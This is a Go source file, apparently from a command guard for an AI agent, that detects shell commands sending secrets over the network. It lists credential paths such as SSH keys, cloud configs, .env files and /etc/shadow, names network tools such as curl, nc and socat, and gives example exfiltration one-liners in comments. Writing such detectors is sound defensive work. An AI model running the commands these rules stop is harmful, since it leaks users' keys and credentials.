package guard

import (
	"path"
	"strings"
)

// This file holds the matchers of the rule about sending secrets away:
// reading a private key or an env file is fine, uploading it is not.

// secretHomeFiles are the files and directories of a home directory that
// hold keys and credentials.
var secretHomeFiles = []string{
	".ssh", ".gnupg", ".aws", ".kube", ".docker/config.json", ".netrc", ".git-credentials",
	".pgpass", ".npmrc", ".pypirc", ".config/gh", ".config/gcloud", ".azure",
}

// secretMarks are substrings every secret path has one of: a quick test
// before the real one.
var secretMarks = []string{
	".ssh", ".gnupg", ".aws", ".kube", ".docker", ".netrc", ".git-credentials", ".pgpass",
	".npmrc", ".pypirc", "gh", "gcloud", ".azure", ".env", "state.db", ".pem", ".key", ".p12",
	"id_", "shadow",
}

// secretPath returns a description when p (as written, relative to cwd)
// names a private key, a credentials file or an env file.
func (pr *pathRules) secretPath(p, cwd string) (string, bool) {
	if !containsAny(p, secretMarks...) && !containsAny(cwd, secretMarks...) {
		return "", false
	}
	full := pr.norm(p, cwd)
	name := full
	if name == "" {
		name = path.Clean(p)
	}
	base := path.Base(name)
	if rel, ok := homeRelative(full); ok {
		for _, s := range secretHomeFiles {
			if rel == s || strings.HasPrefix(rel, s+"/") {
				if strings.HasSuffix(rel, ".pub") || strings.HasSuffix(rel, "/known_hosts") {
					return "", false
				}
				return full + " (keys or credentials)", true
			}
		}
	}
	switch {
	case full != "" && pr.isHermFile(full, ".env", "state.db"):
		return full + " (herm's secrets or sessions)", true
	case base == ".env" || strings.HasPrefix(base, ".env.") && !containsAny(base, "example", "sample", "template", "dist"):
		return name + " (secrets)", true
	case strings.HasSuffix(base, ".pem") || strings.HasSuffix(base, ".key") || strings.HasSuffix(base, ".p12") ||
		strings.HasPrefix(base, "id_rsa") || strings.HasPrefix(base, "id_ed25519") || strings.HasPrefix(base, "id_ecdsa"):
		if strings.HasSuffix(base, ".pub") {
			return "", false
		}
		return name + " (a private key)", true
	case full == "/etc/shadow" || full == "/etc/gshadow" || strings.HasPrefix(full, "/etc/ssh/ssh_host_") && !strings.HasSuffix(full, ".pub"):
		return full + " (system secrets)", true
	}
	return "", false
}

// isSender reports whether c sends data to the network.
func isSender(c *cmd) bool {
	switch c.name {
	case "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "http", "https", "xh", "openssl", "ftp":
		return true
	}
	return false
}

// secretUpload matches a command that sends a secret file away: curl -d
// @.env, curl -F f=@~/.ssh/id_rsa, curl -T, wget --post-file, scp or
// rsync of a key to a remote host, gh gist create.
func secretUpload(c *cmd) (string, *arg) {
	check := func(a arg, p string) (string, *arg) {
		if !a.known || p == "" || p == "-" {
			return "", nil
		}
		if s, ok := c.pr.secretPath(p, c.cwd); ok {
			return c.name + " sends " + s, &a
		}
		return "", nil
	}
	switch c.name {
	case "curl", "http", "https", "xh":
		for i := 0; i < len(c.args); i++ {
			a := c.args[i]
			v := a.val
			// name@file (httpie, --data-urlencode), @file, name=@file,
			// name=<file; -T file.
			if at := strings.LastIndexByte(v, '@'); at >= 0 && !strings.Contains(v[:at], "://") {
				if d, w := check(a, v[at+1:]); d != "" {
					return d, w
				}
			}
			if lt := strings.Index(v, "=<"); lt >= 0 {
				if d, w := check(a, v[lt+2:]); d != "" {
					return d, w
				}
			}
			if (v == "-T" || v == "--upload-file") && i+1 < len(c.args) {
				if d, w := check(c.args[i+1], c.args[i+1].val); d != "" {
					return d, w
				}
			}
		}
	case "wget":
		for _, a := range c.args {
			for _, o := range []string{"--post-file=", "--body-file="} {
				if p, ok := strings.CutPrefix(a.val, o); ok {
					if d, w := check(a, p); d != "" {
						return d, w
					}
				}
			}
		}
	case "scp", "rsync":
		ops := operands(c.args)
		if len(ops) < 2 || !strings.Contains(ops[len(ops)-1].val, ":") {
			return "", nil
		}
		for _, a := range ops[:len(ops)-1] {
			if d, w := check(a, a.val); d != "" {
				return d, w
			}
		}
	case "gh":
		ops := operands(c.args)
		if len(ops) > 2 && ops[0].val == "gist" && ops[1].val == "create" {
			for _, a := range ops[2:] {
				if d, w := check(a, a.val); d != "" {
					return d, w
				}
			}
		}
	}
	return "", nil
}

// secretFed matches a secret piped or redirected into a command that
// sends its input to the network: cat ~/.ssh/id_rsa | curl -d @- …,
// tar cz ~/.aws | nc host 9, nc host 9 < .env.
func secretFed(sink *cmd, f *feed) string {
	if f.secret == "" || !isSender(sink) {
		return ""
	}
	return sink.name + " sends " + f.secret
}

// secretIn returns a description of the first secret file c reads as an
// operand, "" if none.
func secretIn(c *cmd) string {
	if c.pr == nil {
		return ""
	}
	for _, a := range operands(c.args) {
		if a.known {
			if s, ok := c.pr.secretPath(a.val, c.cwd); ok {
				return s
			}
		}
	}
	return ""
}
